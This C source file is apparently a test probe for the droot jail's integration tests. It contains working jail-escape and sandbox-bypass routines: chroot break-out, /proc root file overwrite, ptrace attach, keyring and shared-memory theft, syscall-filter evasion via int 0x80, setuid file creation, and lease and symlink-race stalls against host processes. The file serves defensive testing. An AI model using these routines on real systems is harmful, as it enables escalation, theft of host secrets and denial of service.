/* A static probe run inside droot jails by the integration tests: it reports what the jailed
 * process holds and attempts the escapes the jail must block. Exit 0 = the attempt succeeded. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/fsuid.h>
#include <sys/inotify.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include <linux/capability.h>
#include <linux/keyctl.h>

static int status(void) {
    FILE *f = fopen("/proc/self/status", "r");
    char line[512];
    if (!f) { perror("open /proc/self/status"); return 1; }
    while (fgets(line, sizeof line, f))
        if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) || !strncmp(line, "Uid", 3) ||
            !strncmp(line, "Gid", 3) || !strncmp(line, "Groups", 6))
            fputs(line, stdout);
    fclose(f);
    return 0;
}

static int bind_port(int port) {
    struct sockaddr_in addr = { .sin_family = AF_INET, .sin_port = htons(port) };
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, "127.0.0.1", &addr.sin_addr);
    if (bind(fd, (struct sockaddr *)&addr, sizeof addr) != 0) { printf("bind: %s\n", strerror(errno)); return 1; }
    printf("bound 127.0.0.1:%d\n", port);
    return 0;
}

/* The classic chroot escape: chroot into a subdirectory, climb above it, chroot to the top. */
static int chroot_escape(const char *marker) {
    mkdir("escape-dir", 0700);
    if (chroot("escape-dir") != 0) { printf("chroot: %s\n", strerror(errno)); return 1; }
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
    if (access(marker, F_OK) == 0) { printf("ESCAPED: %s is visible\n", marker); return 0; }
    printf("still jailed\n");
    return 1;
}

/* The open descriptors, without the one used to list them. */
static int fds(void) {
    DIR *dir = opendir("/proc/self/fd");
    struct dirent *entry;
    if (!dir) { perror("opendir /proc/self/fd"); return 1; }
    printf("fds in jail:");
    while ((entry = readdir(dir)))
        if (entry->d_name[0] != '.' && atoi(entry->d_name) != dirfd(dir)) printf(" %s", entry->d_name);
    printf("\n");
    closedir(dir);
    return 0;
}

/* Use an inherited descriptor of a host directory to reach a host file. */
static int fd_escape(int fd, const char *relative) {
    if (fchdir(fd) != 0) { printf("fchdir(%d): %s\n", fd, strerror(errno)); return 1; }
    if (access(relative, F_OK) == 0) { printf("ESCAPED: %s reachable through fd %d\n", relative, fd); return 0; }
    printf("fd %d does not reach %s\n", fd, relative);
    return 1;
}

/* Re-raise every permitted capability into the effective set (setfsuid away from 0 clears some). */
static void raise_effective(void) {
    struct __user_cap_header_struct header = { _LINUX_CAPABILITY_VERSION_3, 0 };
    struct __user_cap_data_struct data[2];
    syscall(SYS_capget, &header, data);
    data[0].effective = data[0].permitted;
    data[1].effective = data[1].permitted;
    syscall(SYS_capset, &header, data);
}

/* Take the fs uid and gid of a host process (its uid and gid are equal here), then reach a
 * root-only file through its /proc/PID/root. */
static int proc_root(const char *pid, int uid, const char *path) {
    char target[512], buf[256] = "";
    int fd;
    setfsgid(uid);
    setfsuid(uid);
    raise_effective();
    snprintf(target, sizeof target, "/proc/%s/root%s", pid, path);
    fd = open(target, O_RDWR);
    if (fd < 0) { printf("open %s: %s\n", target, strerror(errno)); return 1; }
    read(fd, buf, sizeof buf - 1);
    ftruncate(fd, 0);
    pwrite(fd, "OWNED\n", 6, 0);
    printf("READ: %s", buf);
    return 0;
}

/* Become the uid and gid of a host process (equal here) and attach to it with ptrace. */
static int ptrace_attach(int pid, int uid) {
    if (setresgid(uid, uid, uid) != 0) { printf("setresgid: %s\n", strerror(errno)); return 1; }
    if (setresuid(uid, uid, uid) != 0) { printf("setresuid: %s\n", strerror(errno)); return 1; }
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) != 0) { printf("ptrace: %s\n", strerror(errno)); return 1; }
    waitpid(pid, 0, __WALL);
    long word = ptrace(PTRACE_PEEKDATA, pid, 0x400000, 0);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    printf("ATTACHED to %d (peeked %lx)\n", pid, word);
    return 0;
}

/* kill(-1): every process this one may signal. */
static int kill_all(void) {
    if (kill(-1, SIGKILL) != 0) { printf("kill(-1): %s\n", strerror(errno)); return 1; }
    printf("kill(-1) sent\n");
    return 0;
}

/* Find a key by description in the user keyring and print its payload. */
static int key_read(const char *description) {
    char buf[256] = "";
    long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", description, 0);
    if (id < 0) { printf("keyctl search: %s\n", strerror(errno)); return 1; }
    long n = syscall(SYS_keyctl, KEYCTL_READ, id, buf, sizeof buf - 1);
    if (n < 0) { printf("keyctl read: %s\n", strerror(errno)); return 1; }
    buf[n < (long)sizeof buf ? n : (long)sizeof buf - 1] = 0;
    printf("KEY: %s\n", buf);
    return 0;
}

static int key_add(const char *description, const char *payload) {
    long id = syscall(SYS_add_key, "user", description, payload, strlen(payload), KEY_SPEC_USER_KEYRING);
    if (id < 0) { printf("add_key: %s\n", strerror(errno)); return 1; }
    printf("added key %ld\n", id);
    return 0;
}

static int key_unlink(const char *description) {
    long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", description, 0);
    if (id >= 0) syscall(SYS_keyctl, KEYCTL_UNLINK, id, KEY_SPEC_USER_KEYRING);
    return 0;
}

/* SysV shared memory: create (host side), read and overwrite (the attack), remove. */
static int shm(const char *action, const char *key_text) {
    key_t key = (key_t)strtol(key_text, 0, 0);
    int create = !strcmp(action, "shm-create");
    int id = shmget(key, 4096, create ? IPC_CREAT | 0600 : 0);
    if (id < 0) { printf("shmget: %s\n", strerror(errno)); return 1; }
    if (!strcmp(action, "shm-remove")) return shmctl(id, IPC_RMID, 0) == 0 ? 0 : 1;
    char *mem = shmat(id, 0, 0);
    if (mem == (void *)-1) { printf("shmat: %s\n", strerror(errno)); return 1; }
    if (create) { strcpy(mem, "host-secret"); return 0; }
    printf("SHM: %s\n", mem);
    strcpy(mem, "OWNED");
    return 0;
}

/* A raw system call without arguments, by number: what the filter answers. */
static int raw_syscall(long number) {
    long result = syscall(number, 0, 0, 0, 0, 0, 0);
    printf("syscall %ld: %s\n", number, result < 0 ? strerror(errno) : "ok");
    return result < 0;
}

/* vsock sockets three ways: plainly, with the domain's upper 32 bits set (the kernel reads an int),
 * and through i386's socketcall, whose arguments are in memory. */
static int vsock(void) {
    int failed = 0;
    long fd = socket(40 /* AF_VSOCK */, SOCK_STREAM, 0);
    printf("vsock: %s\n", fd < 0 ? strerror(errno) : "created");
    failed += fd < 0;
    fd = syscall(SYS_socket, 0x100000000L | 40, SOCK_STREAM, 0);
    printf("vsock high bits: %s\n", fd < 0 ? strerror(errno) : "created");
    failed += fd < 0;
#ifdef __x86_64__
    unsigned *args = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    args[0] = 40; args[1] = SOCK_STREAM; args[2] = 0;
    asm volatile("int $0x80" : "=a"(fd) : "a"(102 /* socketcall */), "b"(1 /* SYS_SOCKET */), "c"(args) : "memory");
    printf("vsock socketcall: %s\n", fd < 0 ? strerror(-fd) : "created");
    failed += fd < 0;
#endif
    return failed != 3;
}

/* Create a file with the setuid bit directly, as open(O_CREAT, 04755) would. */
static int create_setuid(const char *path) {
    int fd = open(path, O_CREAT | O_WRONLY | O_EXCL, 04755);
    printf("create %s 04755: %s\n", path, fd < 0 ? strerror(errno) : "created");
    return fd < 0;
}

/* Receive a descriptor over the abstract unix socket NAME (connecting to it, or listening on it for a
 * host process to connect), then open RELPATH through it: a host directory handed to the jail. */
static int fd_passed(const char *how, const char *name, const char *relpath) {
    struct sockaddr_un addr = { .sun_family = AF_UNIX };
    socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
    char data, control[CMSG_SPACE(sizeof(int))], buf[256] = "";
    struct iovec iov = { &data, 1 };
    struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
    int sock = socket(AF_UNIX, SOCK_STREAM, 0), conn = sock;
    memcpy(addr.sun_path + 1, name, strlen(name));
    if (!strcmp(how, "fd-connect")) {
        if (connect(sock, (struct sockaddr *)&addr, length) != 0) { printf("connect: %s\n", strerror(errno)); return 1; }
    } else {
        if (bind(sock, (struct sockaddr *)&addr, length) != 0 || listen(sock, 1) != 0) { printf("listen: %s\n", strerror(errno)); return 1; }
        printf("listening\n"); fflush(stdout);
        conn = accept(sock, 0, 0);
    }
    if (recvmsg(conn, &msg, 0) < 1 || !CMSG_FIRSTHDR(&msg)) { printf("recvmsg: %s\n", strerror(errno)); return 1; }
    int dir = *(int *)CMSG_DATA(CMSG_FIRSTHDR(&msg));
    int fd = openat(dir, relpath, O_RDONLY);
    if (fd < 0) { printf("openat through the host's descriptor: %s\n", strerror(errno)); return 1; }
    read(fd, buf, sizeof buf - 1);
    printf("READ: %s", buf);
    return 0;
}

/* Listen on the abstract socket NAME and give whoever connects this process's stdout. */
static int fd_give(const char *name) {
    struct sockaddr_un addr = { .sun_family = AF_UNIX };
    socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
    char data = 'x', control[CMSG_SPACE(sizeof(int))];
    struct iovec iov = { &data, 1 };
    struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
    int sock = socket(AF_UNIX, SOCK_STREAM, 0);
    memcpy(addr.sun_path + 1, name, strlen(name));
    if (bind(sock, (struct sockaddr *)&addr, length) != 0 || listen(sock, 1) != 0) { printf("listen: %s\n", strerror(errno)); return 1; }
    int conn = accept(sock, 0, 0);
    struct cmsghdr *cmsg = CMSG_FIRSTHDR(&msg);
    cmsg->cmsg_level = SOL_SOCKET; cmsg->cmsg_type = SCM_RIGHTS; cmsg->cmsg_len = CMSG_LEN(sizeof(int));
    *(int *)CMSG_DATA(cmsg) = 1;
    if (sendmsg(conn, &msg, 0) != 1) { printf("sendmsg: %s\n", strerror(errno)); return 1; }
    printf("gave stdout away\n");
    return 0;
}

/* Take a write lease on each PATH (a jailed root owns its root's files), then wait: a host process
 * that opens one blocks until the kernel's lease-break-time has passed, unless it does not block. */
static int lease(int count, char **paths) {
    signal(SIGIO, SIG_IGN);  /* the kernel's notice of a lease break; holding on is the attack */
    for (int i = 0; i < count; i++) {
        int fd = open(paths[i], O_RDONLY);
        if (fd < 0 || fcntl(fd, F_SETLEASE, F_WRLCK) != 0) { printf("lease %s: %s\n", paths[i], strerror(errno)); return 1; }
    }
    printf("leased\n"); fflush(stdout);
    for (;;) pause();
}

/* Make /big with COUNT files and a symlink zz -> /tmp (a directory to a walker that follows it);
 * once the host lists /big, swap zz for a symlink to HOSTFIFO: a walker that opens zz, following it,
 * as root on the host, blocks on the host's FIFO for ever. */
static int scan_race(int count, const char *hostfifo) {
    char name[32];
    mkdir("/big", 0755);
    for (int i = 0; i < count; i++) {
        snprintf(name, sizeof name, "/big/f%06d", i);
        close(open(name, O_WRONLY | O_CREAT, 0644));
    }
    unlink("/big/zz");
    if (symlink("/tmp", "/big/zz") != 0) { printf("symlink: %s\n", strerror(errno)); return 1; }
    int watch = inotify_init();
    if (watch < 0 || inotify_add_watch(watch, "/big", IN_ACCESS) < 0) { printf("inotify: %s\n", strerror(errno)); return 1; }
    printf("ready\n"); fflush(stdout);
    char events[4096];
    for (;;) {
        if (read(watch, events, sizeof events) <= 0) return 1;
        usleep(150000);
        unlink("/big/zz.new");
        symlink(hostfifo, "/big/zz.new");
        rename("/big/zz.new", "/big/zz");
        printf("swapped\n"); fflush(stdout);
    }
}

static int setuid0(void) {
    if (setuid(0) != 0) { printf("setuid(0): %s\n", strerror(errno)); return 1; }
    printf("BECAME ROOT: uid %d euid %d\n", getuid(), geteuid());
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 2 && !strcmp(argv[1], "status")) return status();
    if (argc >= 2 && !strcmp(argv[1], "fds")) return fds();
    if (argc >= 3 && !strcmp(argv[1], "bind")) return bind_port(atoi(argv[2]));
    if (argc >= 3 && !strcmp(argv[1], "chroot-escape")) return chroot_escape(argv[2]);
    if (argc >= 4 && !strcmp(argv[1], "fd-escape")) return fd_escape(atoi(argv[2]), argv[3]);
    if (argc >= 5 && !strcmp(argv[1], "proc-root")) return proc_root(argv[2], atoi(argv[3]), argv[4]);
    if (argc >= 4 && !strcmp(argv[1], "ptrace")) return ptrace_attach(atoi(argv[2]), atoi(argv[3]));
    if (argc >= 2 && !strcmp(argv[1], "kill-all")) return kill_all();
    if (argc >= 3 && !strcmp(argv[1], "key-read")) return key_read(argv[2]);
    if (argc >= 4 && !strcmp(argv[1], "key-add")) return key_add(argv[2], argv[3]);
    if (argc >= 3 && !strcmp(argv[1], "key-unlink")) return key_unlink(argv[2]);
    if (argc >= 3 && !strncmp(argv[1], "shm-", 4)) return shm(argv[1], argv[2]);
    if (argc >= 2 && !strcmp(argv[1], "setuid0")) return setuid0();
    if (argc >= 3 && !strcmp(argv[1], "syscall")) return raw_syscall(atol(argv[2]));
    if (argc >= 2 && !strcmp(argv[1], "vsock")) return vsock();
    if (argc >= 3 && !strcmp(argv[1], "create-setuid")) return create_setuid(argv[2]);
    if (argc >= 3 && !strcmp(argv[1], "fd-give")) return fd_give(argv[2]);
    if (argc >= 4 && !strncmp(argv[1], "fd-", 3)) return fd_passed(argv[1], argv[2], argv[3]);
    if (argc >= 3 && !strcmp(argv[1], "lease")) return lease(argc - 2, argv + 2);
    if (argc >= 4 && !strcmp(argv[1], "scan-race")) return scan_race(atoi(argv[2]), argv[3]);
    fprintf(stderr, "usage: probe status | fds | bind PORT | chroot-escape HOSTFILE | fd-escape FD RELPATH\n"
                    "     | proc-root PID UID PATH | ptrace PID UID | kill-all | key-read DESC | key-add DESC DATA\n"
                    "     | key-unlink DESC | shm-create|shm-read|shm-remove KEY | setuid0 | syscall NR | vsock\n"
                    "     | create-setuid PATH | fd-connect|fd-listen NAME RELPATH | fd-give NAME | lease PATH...\n"
                    "     | scan-race COUNT HOSTFIFO\n");
    return 2;
}
